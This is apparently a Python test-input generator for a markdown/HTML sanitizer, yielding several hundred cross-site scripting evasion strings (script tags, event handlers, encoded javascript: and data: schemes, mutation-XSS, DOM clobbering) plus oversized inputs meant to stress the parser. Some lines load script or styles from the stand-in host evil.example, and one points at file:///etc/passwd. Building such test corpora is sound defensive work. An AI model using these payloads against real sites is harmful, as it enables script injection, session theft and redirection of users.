"""Texts that try to run something, by the ways that are known: OWASP's list of filter evasions names most.

Each is made of a place where a browser could run something and of a way to hide it.
"""

from collections.abc import Iterator

RUN = "window.hit=1"
EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onpointerenter")
ELEMENTS = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script/x>{run}</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script\x0c>{run}</script>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{{background:url(//evil.example/x)}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//evil.example/>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button autofocus>x</button></form>",
    "<button formaction=javascript:{run}>x</button>",
    "<isindex action=javascript:{run} type=image>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:{run}></svg>",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'></svg>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<textarea><img src='</textarea><img src=x onerror={run}>'></textarea>",
    "<xmp><p title='</xmp><svg onload={run}>'></xmp>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "<?xml version='1.0'?><img src=x onerror={run}>",
    "<x contenteditable onblur={run}>x</x>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<audio src onloadstart={run}></audio>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<keygen autofocus onfocus={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<table background=javascript:{run}><tr><td>x</td></tr></table>",
    "<div style='background:url(javascript:{run})'>x</div>",
    "<div style='width:expression({run})'>x</div>",
    "<p id=main name=forms>clobbered</p>",
    "<img src=x:x onerror={run}//",
    "<img src='x' onerror\n=\n{run}>",
    "<img/src=x/onerror={run}>",
    "<img \x00src=x onerror={run}>",
    '<a href="x" onclick={run} autofocus>x</a>',
    "<template><script>{run}</script></template>",
)
SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "java&#10;script:{run}",
    "java&#x09;script:{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript:{run}",
    "&#0000106avascript:{run}",
    "javascript&colon;{run}",
    "javascript&#58;{run}",
    "javascript%3A{run}",
    "%6Aavascript:{run}",
    "\x01javascript:{run}",
    "\u2028javascript:{run}",
    "vbscript:{run}",
    "livescript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload={run}>",
    "feed:javascript:{run}",
    "view-source:javascript:{run}",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "/%09/evil.example/x",
)
AROUND = (
    "[x]({address})",
    "[x](<{address}>)",
    "![x]({address})",
    "[x][r]\n\n[r]: {address}",
    "<{address}>",
    "[![x]({address})]({address})",
    "[[x|{address}]]",
)
BETWEEN = (
    "{code}",
    "# {code}",
    "- [ ] {code}",
    "> {code}",
    "| {code} | b |\n|---|---|\n| {code} | c |",
    "[^1]\n\n[^1]: {code}",
    '[x](a.png "{code}")',
    "![{code}](a.png)",
    "[[{code}]]",
    "`{code}`\n\n```{code}\n{code}\n```",
)


def attacks() -> Iterator[str]:
    """Several hundred texts, each another."""
    for element in ELEMENTS:
        code = element.format(run=RUN)
        yield code
        yield from (around.format(code=code) for around in BETWEEN[1:])
    for event in EVENTS:
        for tag in ("img src=x", "svg", "body", "a href=x", "details open", "p"):
            yield f"<{tag} {event}={RUN}>"
            yield f'[x](a.png "y" {event}={RUN})'
            yield f'[x](https://example.org/"{event}={RUN}"x)'
            yield f'![" {event}={RUN} x="](a.png)'
    for scheme in SCHEMES:
        address = scheme.format(run=RUN)
        yield from (around.format(address=address) for around in AROUND)
    yield from ("[" * 5_000, "![" * 5_000, "*" * 20_000, "`" * 20_000, "> " * 5_000 + "x", "[x](" * 3_000)
    yield from (
        "|" * 10_000 + "\n" + "|-" * 5_000,
        "[^x]" * 2_000,
        "- " * 3_000 + "x",
        "[[" * 5_000,
        "~~" * 5_000,
    )
